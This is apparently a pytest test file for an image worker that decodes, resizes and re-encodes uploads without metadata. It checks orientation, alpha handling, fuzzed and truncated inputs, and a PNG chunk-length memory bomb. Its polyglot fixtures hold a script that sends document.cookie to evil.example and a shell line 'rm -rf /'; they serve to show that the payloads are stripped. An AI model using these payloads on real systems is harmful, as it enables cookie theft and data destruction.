"""workers.imaging: decode to upright BGR, fit within a size, encode with no metadata.

Inputs come from real encoders: OpenCV for pixels, Pillow for the metadata that
OpenCV does not write (EXIF, XMP, text chunks, comments). Expected pixels come
from OpenCV's own IMREAD_COLOR or from numpy transforms of a lossless source.
"""

from __future__ import annotations

import io
import os
import struct
import time
import uuid

import cv2
import numpy as np
import pytest
import skimage.data
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backend.imaging import ImageHeader, ImageRejected, UndecodableImage, sniff
from tests.harness import python_probe
from workers.imaging import decode, encode, exif_orientation, fit_within

Image = pytest.importorskip("PIL.Image", reason="Pillow crafts the metadata-bearing inputs")
PngImagePlugin = pytest.importorskip("PIL.PngImagePlugin")

LIMIT = 50_000_000
RGB = skimage.data.astronaut()[:, :300]  # 512 high, 300 wide: a swap cannot hide
BGR = cv2.cvtColor(RGB, cv2.COLOR_RGB2BGR)


def cv_encode(ext: str, image: np.ndarray, *params: int) -> bytes:
    ok, buffer = cv2.imencode(ext, image, list(params))
    assert ok
    return buffer.tobytes()


def pil_encode(image: np.ndarray, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.fromarray(image).save(out, fmt, **options)
    return out.getvalue()


def reference(data: bytes) -> np.ndarray:
    """What OpenCV itself makes of the bytes: upright BGR, alpha dropped."""
    return cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_COLOR)


def decoded(data: bytes) -> np.ndarray:
    return decode(data, sniff(data, max_pixels=LIMIT))


def jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, payload) for every segment up to SOS, then SOS and EOI markers."""
    assert data[:2] == b"\xff\xd8"
    segments, i = [], 2
    while True:
        assert data[i] == 0xFF
        marker = data[i + 1]
        if marker == 0xD9:
            segments.append((marker, b""))
            return segments
        (length,) = struct.unpack_from(">H", data, i + 2)
        segments.append((marker, data[i + 4 : i + 2 + length]))
        i += 2 + length
        if marker == 0xDA:  # skip the entropy-coded data to the next real marker
            while not (data[i] == 0xFF and data[i + 1] not in (0x00, *range(0xD0, 0xD8))):
                i += 1


def png_chunks(data: bytes) -> list[bytes]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    kinds, i = [], 8
    while i < len(data):
        length, kind = struct.unpack_from(">I4s", data, i)
        kinds.append(kind)
        i += 12 + length
    assert i == len(data), "no bytes after IEND"
    return kinds


def webp_chunks(data: bytes) -> list[bytes]:
    assert data[:4] == b"RIFF"
    assert data[8:12] == b"WEBP"
    assert struct.unpack_from("<I", data, 4)[0] == len(data) - 8, "no bytes after the RIFF"
    kinds, i = [], 12
    while i < len(data):
        kind, length = struct.unpack_from("<4sI", data, i)
        kinds.append(kind)
        i += 8 + length + (length & 1)
    return kinds


# --- decode ---------------------------------------------------------------------


def cmyk_jpeg() -> bytes:
    return _pil_convert_encode("CMYK", "JPEG")


def palette_png() -> bytes:
    return _pil_convert_encode("P", "PNG")


def _pil_convert_encode(mode: str, fmt: str) -> bytes:
    out = io.BytesIO()
    Image.fromarray(RGB).convert(mode).save(out, fmt)
    return out.getvalue()


def with_alpha(image: np.ndarray) -> np.ndarray:
    """Alpha ramps 0 -> 255 left to right."""
    alpha = np.tile(np.linspace(0, 255, image.shape[1]).astype(np.uint8), (image.shape[0], 1))
    return np.dstack([image, alpha])


OPAQUE = {
    "jpeg": lambda: cv_encode(".jpg", BGR),
    "jpeg_progressive": lambda: cv_encode(".jpg", BGR, cv2.IMWRITE_JPEG_PROGRESSIVE, 1),
    "jpeg_grayscale": lambda: cv_encode(".jpg", cv2.cvtColor(BGR, cv2.COLOR_BGR2GRAY)),
    "jpeg_cmyk": cmyk_jpeg,
    "png": lambda: cv_encode(".png", BGR),
    "png_grayscale": lambda: cv_encode(".png", cv2.cvtColor(BGR, cv2.COLOR_BGR2GRAY)),
    "png_16bit": lambda: cv_encode(".png", BGR.astype(np.uint16) * 257 + 100),
    "png_palette": palette_png,
    "webp_lossy": lambda: cv_encode(".webp", BGR, cv2.IMWRITE_WEBP_QUALITY, 80),
    "webp_lossless": lambda: cv_encode(".webp", BGR, cv2.IMWRITE_WEBP_QUALITY, 101),
}


@pytest.mark.parametrize("name", list(OPAQUE))
def test_it_decodes_opaque_photos_exactly_as_opencv_does(name: str) -> None:
    data = OPAQUE[name]()

    image = decoded(data)

    assert image.dtype == np.uint8
    assert image.shape == (512, 300, 3)
    np.testing.assert_array_equal(image, reference(data))


def test_a_16_bit_png_keeps_the_high_byte_of_each_sample() -> None:
    deep = BGR.astype(np.uint16) * 257 + 100  # low bytes differ from high bytes

    image = decoded(cv_encode(".png", deep))

    np.testing.assert_array_equal(image, (deep >> 8).astype(np.uint8))


def test_a_lossless_decode_returns_the_source_pixels() -> None:
    np.testing.assert_array_equal(decoded(cv_encode(".png", BGR)), BGR)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: cv_encode(".png", with_alpha(BGR)), id="png_rgba"),
        pytest.param(
            lambda: cv_encode(".webp", with_alpha(BGR), cv2.IMWRITE_WEBP_QUALITY, 101),
            id="webp_lossless_alpha",
        ),
    ],
)
def test_it_composites_alpha_onto_white(data: object) -> None:
    bgra = with_alpha(BGR)
    alpha = bgra[:, :, 3:].astype(np.float64) / 255
    expected = np.rint(BGR * alpha + 255 * (1 - alpha)).astype(np.uint8)

    image = decoded(data())  # type: ignore[operator]

    assert image.shape == (512, 300, 3)
    assert np.abs(image.astype(int) - expected).max() <= 1  # integer vs float rounding
    assert (image[:, 0] == 255).all()  # fully transparent column: white, not the photo
    np.testing.assert_array_equal(image[:, -1], BGR[:, -1])  # opaque column untouched


def test_transparent_pixels_do_not_reveal_what_they_cover() -> None:
    hidden = np.dstack([BGR, np.zeros(BGR.shape[:2], np.uint8)])  # a photo, fully transparent

    image = decoded(cv_encode(".png", hidden))

    assert (image == 255).all()


def test_a_lossy_webp_with_alpha_decodes_to_bgr() -> None:
    data = cv_encode(".webp", with_alpha(BGR), cv2.IMWRITE_WEBP_QUALITY, 80)
    assert data[12:16] == b"VP8X"

    image = decoded(data)

    assert image.shape == (512, 300, 3)
    assert image[:, :4].min() >= 250  # the transparent edge became white


# EXIF orientation -> the numpy transform that makes the stored pixels upright.
UPRIGHT = {
    1: lambda a: a,
    2: lambda a: a[:, ::-1],
    3: lambda a: a[::-1, ::-1],
    4: lambda a: a[::-1],
    5: lambda a: a.transpose(1, 0, 2),
    6: lambda a: np.rot90(a, k=-1),
    7: lambda a: np.rot90(a, k=-1)[::-1],
    8: lambda a: np.rot90(a, k=1),
}


def exif_bytes(orientation: int, **tags: str) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    for tag, value in tags.items():
        exif[{"description": 0x010E, "artist": 0x013B}[tag]] = value
    return exif.tobytes()


@pytest.mark.parametrize("orientation", range(1, 9))
def test_it_turns_a_lossless_image_upright_from_its_exif(orientation: int) -> None:
    data = pil_encode(RGB, "PNG", exif=exif_bytes(orientation))

    image = decoded(data)

    np.testing.assert_array_equal(image, UPRIGHT[orientation](BGR))


@pytest.mark.parametrize("orientation", range(1, 9))
@pytest.mark.parametrize("fmt", ["JPEG", "WEBP"])
def test_it_orients_like_opencv_for_lossy_formats(fmt: str, orientation: int) -> None:
    data = pil_encode(RGB, fmt, exif=exif_bytes(orientation))

    image = decoded(data)

    np.testing.assert_array_equal(image, reference(data))
    assert image.shape[:2] == UPRIGHT[orientation](BGR).shape[:2]


def test_it_orients_an_image_with_alpha_too() -> None:
    rgba = np.dstack([RGB, np.full(RGB.shape[:2], 255, np.uint8)])
    rgba[0, 0, 3] = 0  # keep the alpha channel from being optimised away
    data = pil_encode(rgba, "PNG", exif=exif_bytes(6))

    image = decoded(data)

    expected = UPRIGHT[6](BGR).copy()
    expected[0, -1] = 255  # the transparent top-left pixel, rotated to top-right
    np.testing.assert_array_equal(image, expected)


@pytest.mark.parametrize(
    ("exif", "orientation"),
    [
        (b"", 1),
        (b"Exif\x00\x00", 1),
        (b"II*\x00\xff\xff\xff\x7f", 1),  # IFD offset past the end
        (b"MM\x00*\x00\x00\x00\x08\xff\xff", 1),  # 65535 entries claimed, none present
        (b"garbage", 1),
    ],
)
def test_malformed_exif_means_no_rotation(exif: bytes, orientation: int) -> None:
    assert exif_orientation(exif) == orientation


def test_it_reads_orientation_in_both_byte_orders() -> None:
    little = exif_bytes(6)
    big = b"MM\x00*\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x08\x00\x00"

    assert exif_orientation(little) == 6
    assert exif_orientation(big) == 8


@pytest.mark.parametrize("name", ["jpeg", "jpeg_progressive", "png", "webp_lossy"])
def test_a_truncated_body_passes_sniff_and_fails_decode(name: str) -> None:
    data = OPAQUE[name]()
    for fraction in (0.2, 0.5, 0.9, 0.999):
        cut = data[: int(len(data) * fraction)]
        header = sniff(cut, max_pixels=LIMIT)

        with pytest.raises(UndecodableImage):
            decode(cut, header)


def test_a_jpeg_cut_just_before_its_end_marker_fails_decode() -> None:
    data = OPAQUE["jpeg"]()
    assert data.endswith(b"\xff\xd9")

    with pytest.raises(UndecodableImage):
        decode(data[:-2], sniff(data, max_pixels=LIMIT))


def test_it_rejects_a_header_that_disagrees_with_the_pixels() -> None:
    data = cv_encode(".png", BGR)

    with pytest.raises(UndecodableImage, match="disagree"):
        decode(data, ImageHeader("png", "image/png", 512, 300))


def test_it_rejects_a_webp_whose_canvas_lies_about_its_bitstream() -> None:
    data = cv_encode(".webp", with_alpha(BGR), cv2.IMWRITE_WEBP_QUALITY, 80)
    side = (200 - 1).to_bytes(3, "little")
    liar = data[:24] + side + side + data[30:]
    header = sniff(liar, max_pixels=LIMIT)
    assert (header.width, header.height) == (200, 200)

    with pytest.raises(UndecodableImage):
        decode(liar, header)


def test_it_will_not_let_opencv_pick_a_decoder_for_another_format() -> None:
    bmp = cv_encode(".bmp", BGR)

    with pytest.raises(UndecodableImage):
        decode(bmp, ImageHeader("png", "image/png", 300, 512))


def test_opencv_pixel_limits_are_set_before_cv2_loads() -> None:
    # A fresh interpreter, because OpenCV reads its limits once, when it loads.
    # The 10001 x 1 PNG passes a sniff that allows it, so only OpenCV's own
    # width limit can stop it.
    script = (
        "import workers.imaging as w, os, numpy as np, cv2\n"
        "from backend.imaging import sniff, UndecodableImage\n"
        "assert w.CV2_LIMITS_APPLIED\n"
        "print(os.environ['OPENCV_IO_MAX_IMAGE_WIDTH'])\n"
        "data = cv2.imencode('.png', np.zeros((1, 10001, 3), np.uint8))[1].tobytes()\n"
        "header = sniff(data, max_pixels=10**8, max_side=20000)\n"
        "try:\n"
        "    w.decode(data, header)\n"
        "except UndecodableImage:\n"
        "    print('refused')\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPENCV_IO_")}
    assert python_probe(script, env=env).split() == ["10000", "refused"]


# --- fit_within -----------------------------------------------------------------


def test_an_image_that_fits_is_returned_as_is() -> None:
    assert fit_within(BGR, 512) is BGR
    assert fit_within(BGR, 10_000) is BGR


@pytest.mark.parametrize(
    ("image", "expected"), [(BGR, (256, 150)), (BGR.transpose(1, 0, 2), (150, 256))]
)
def test_it_downscales_the_longest_side_to_the_limit(
    image: np.ndarray, expected: tuple[int, int]
) -> None:
    small = fit_within(image, 256)

    assert small.shape == (*expected, 3)
    assert small.dtype == np.uint8


def test_it_averages_when_downscaling() -> None:
    # INTER_AREA averages a 2x2 checkerboard cell to mid-grey; nearest or
    # linear sampling would keep picking black or white.
    board = np.indices((200, 200)).sum(axis=0) % 2 * 255
    board = np.dstack([board] * 3).astype(np.uint8)

    small = fit_within(board, 100)

    assert small.shape == (100, 100, 3)
    assert np.abs(small.astype(int) - 127).max() <= 1


def test_a_sliver_keeps_at_least_one_pixel() -> None:
    sliver = np.zeros((1, 5000, 3), np.uint8)

    assert fit_within(sliver, 100).shape == (1, 100, 3)


def test_fit_within_refuses_a_zero_limit() -> None:
    with pytest.raises(ValueError, match="at least 1"):
        fit_within(BGR, 0)


# --- encode ---------------------------------------------------------------------

FORMATS = ["jpeg", "png", "webp"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_encode_writes_the_same_format_family_with_its_content_type(fmt: str) -> None:
    data, content_type = encode(BGR, fmt)  # type: ignore[arg-type]

    header = sniff(data, max_pixels=LIMIT)
    assert (header.format, header.content_type) == (fmt, content_type)
    assert content_type == f"image/{fmt}"
    assert (header.width, header.height) == (300, 512)


@pytest.mark.parametrize(
    ("fmt", "ext", "params"),
    [
        ("jpeg", ".jpg", [cv2.IMWRITE_JPEG_QUALITY, 92]),
        ("png", ".png", [cv2.IMWRITE_PNG_COMPRESSION, 6]),
        ("webp", ".webp", [cv2.IMWRITE_WEBP_QUALITY, 90]),
    ],
)
def test_encode_uses_the_agreed_quality(fmt: str, ext: str, params: list[int]) -> None:
    data, _ = encode(BGR, fmt)  # type: ignore[arg-type]

    assert data == cv_encode(ext, BGR, *params)


def test_png_output_is_lossless() -> None:
    data, _ = encode(BGR, "png")

    np.testing.assert_array_equal(decoded(data), BGR)


@pytest.mark.parametrize(
    "image",
    [
        np.zeros((4, 4), np.uint8),
        np.zeros((4, 4, 4), np.uint8),
        np.zeros((4, 4, 3), np.float32),
        np.zeros((4, 4, 3), np.uint16),
    ],
)
def test_encode_refuses_anything_but_bgr_uint8(image: np.ndarray) -> None:
    with pytest.raises(ValueError, match="BGR uint8"):
        encode(image, "png")


def test_encode_refuses_an_unknown_format() -> None:
    with pytest.raises(ValueError, match="gif"):
        encode(BGR, "gif")  # type: ignore[arg-type]


def test_encode_reports_a_webp_too_large_for_the_format() -> None:
    with pytest.raises(ValueError, match="webp"):
        encode(np.zeros((1, 16384, 3), np.uint8), "webp")


# --- nothing foreign survives ---------------------------------------------------

ALLOWED_JPEG = {0xD8, 0xE0, 0xDB, 0xC0, 0xC4, 0xDA, 0xD9}  # SOI APP0 DQT SOF0 DHT SOS EOI
ALLOWED_PNG = {b"IHDR", b"IDAT", b"IEND"}
ALLOWED_WEBP = {b"VP8 ", b"VP8L"}


def canary() -> bytes:
    return f"canary-{uuid.uuid4()}".encode()


def assert_pixels_only(data: bytes, fmt: str, *secrets: bytes) -> None:
    """The output holds no secret and no structure that could carry metadata."""
    for secret in secrets:
        assert secret not in data
    if fmt == "jpeg":
        segments = jpeg_segments(data)
        assert {marker for marker, _ in segments} <= ALLOWED_JPEG
        assert [payload[:5] for marker, payload in segments if marker == 0xE0] == [b"JFIF\x00"]
        assert b"Exif" not in data
    elif fmt == "png":
        assert set(png_chunks(data)) <= ALLOWED_PNG
    else:
        assert set(webp_chunks(data)) <= ALLOWED_WEBP


def metadata_laden_inputs(secret: bytes) -> dict[str, bytes]:
    text = secret.decode()
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
        b'02/22-rdf-syntax-ns#"><rdf:Description>' + secret + b"</rdf:Description></rdf:RDF>"
        b"</x:xmpmeta>"
    )
    exif = exif_bytes(1, description=text, artist=text)
    icc = b"\x00\x00\x02\x00" + secret + bytes(200)
    png_info = PngImagePlugin.PngInfo()
    png_info.add_text("Comment", text)
    png_info.add_text("Author", text, zip=True)  # zTXt
    png_info.add_itxt("XML:com.adobe.xmp", xmp.decode(), lang="en", tkey=text)
    inputs = {
        "jpeg_exif_xmp_com_icc": pil_encode(
            RGB, "JPEG", exif=exif, xmp=xmp, comment=secret, icc_profile=icc
        ),
        "png_text_itxt_ztxt_exif": pil_encode(RGB, "PNG", pnginfo=png_info, exif=exif),
        "webp_exif_xmp_icc": pil_encode(RGB, "WEBP", exif=exif, xmp=xmp, icc_profile=icc),
    }
    for name, data in inputs.items():
        assert data.count(secret) >= 2, f"{name}: the canary must really be in the input"
    return inputs


@pytest.mark.parametrize(
    "source", ["jpeg_exif_xmp_com_icc", "png_text_itxt_ztxt_exif", "webp_exif_xmp_icc"]
)
@pytest.mark.parametrize("fmt", FORMATS)
def test_no_metadata_survives_decode_and_encode(source: str, fmt: str) -> None:
    secret = canary()
    data = metadata_laden_inputs(secret)[source]

    out, _ = encode(decoded(data), fmt)  # type: ignore[arg-type]

    assert_pixels_only(out, fmt, secret)


def test_the_metadata_check_would_catch_exif_in_an_output() -> None:
    # The parser behind assert_pixels_only is real: an EXIF-bearing file fails it.
    secret = canary()
    laden = pil_encode(RGB, "JPEG", exif=exif_bytes(1, description=secret.decode()))

    with pytest.raises(AssertionError):
        assert_pixels_only(laden, "jpeg", secret)


POLYGLOT_PAYLOADS = {
    "html": b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>",
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"evil.sh" + b"#!/bin/sh\nrm -rf /\n" * 4,
}


@pytest.mark.parametrize("payload", list(POLYGLOT_PAYLOADS))
@pytest.mark.parametrize("where", ["after_end", "in_comment"])
def test_a_polyglot_jpeg_decodes_and_its_payload_is_gone(payload: str, where: str) -> None:
    secret = POLYGLOT_PAYLOADS[payload] + canary()
    if where == "after_end":
        data = cv_encode(".jpg", BGR) + secret
    else:
        data = pil_encode(RGB, "JPEG", comment=secret)
    assert secret in data

    image = decoded(data)
    for fmt in FORMATS:
        out, _ = encode(image, fmt)  # type: ignore[arg-type]
        assert_pixels_only(out, fmt, secret, POLYGLOT_PAYLOADS[payload][:16])


def test_a_png_with_data_after_iend_decodes_and_the_data_is_gone() -> None:
    secret = POLYGLOT_PAYLOADS["html"] + canary()
    data = cv_encode(".png", BGR) + secret

    out, _ = encode(decoded(data), "png")

    assert_pixels_only(out, "png", secret)


# --- properties -------------------------------------------------------------------

SMALL = cv2.resize(BGR, (40, 64), interpolation=cv2.INTER_AREA)
SEEDS = [
    cv_encode(".jpg", SMALL),
    cv_encode(".jpg", SMALL, cv2.IMWRITE_JPEG_PROGRESSIVE, 1),
    cv_encode(".png", SMALL),
    cv_encode(".png", with_alpha(SMALL)),
    cv_encode(".png", SMALL.astype(np.uint16) * 257),
    cv_encode(".webp", SMALL, cv2.IMWRITE_WEBP_QUALITY, 80),
    cv_encode(".webp", SMALL, cv2.IMWRITE_WEBP_QUALITY, 101),
    cv_encode(".webp", with_alpha(SMALL), cv2.IMWRITE_WEBP_QUALITY, 80),
]


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """A real file with a few bit flips, byte sets, inserts, deletes or a truncation."""
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 6))):
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        kind = draw(st.sampled_from(["flip", "set", "insert", "delete", "truncate"]))
        if kind == "flip":
            data[at] ^= 1 << draw(st.integers(0, 7))
        elif kind == "set":
            data[at] = draw(st.integers(0, 255))
        elif kind == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif kind == "delete":
            del data[at : at + draw(st.integers(1, 64))]
        else:
            del data[at:]
    return bytes(data)


@settings(max_examples=300, deadline=1000, suppress_health_check=[HealthCheck.too_slow])
@given(mutated())
def test_decoding_a_mutated_file_yields_bgr_or_undecodable(data: bytes) -> None:
    try:
        header = sniff(data, max_pixels=1_000_000)
    except ImageRejected:
        return
    try:
        image = decode(data, header)
    except UndecodableImage:
        return
    assert image.dtype == np.uint8
    assert image.ndim == 3
    assert image.shape[2] == 3
    # Upright output may be transposed by an EXIF orientation a mutation created.
    assert sorted(image.shape[:2]) == sorted((header.height, header.width))


@pytest.mark.parametrize("claimed", [0xFFFF1EB6, 0x7FFFFFFF, 0xFFFFFFFF])
def test_a_png_chunk_claiming_gigabytes_is_refused_before_opencv_allocates_it(
    claimed: int,
) -> None:
    # Found by bench/fuzz_uploads.py: OpenCV 5 allocates the declared length of
    # a PNG chunk before reading it, so this 2 KB file cost 4 GB and seconds.
    png = cv_encode(".png", SMALL)
    idat = png.index(b"IDAT") - 4
    bomb = png[:idat] + struct.pack(">I", claimed) + png[idat + 4 :]
    header = sniff(bomb, max_pixels=LIMIT)

    started = time.perf_counter()
    with pytest.raises(UndecodableImage):
        decode(bomb, header)

    assert time.perf_counter() - started < 0.05


def test_a_png_without_iend_is_refused() -> None:
    png = cv_encode(".png", SMALL)

    with pytest.raises(UndecodableImage):
        decode(png[:-12], sniff(png, max_pixels=LIMIT))
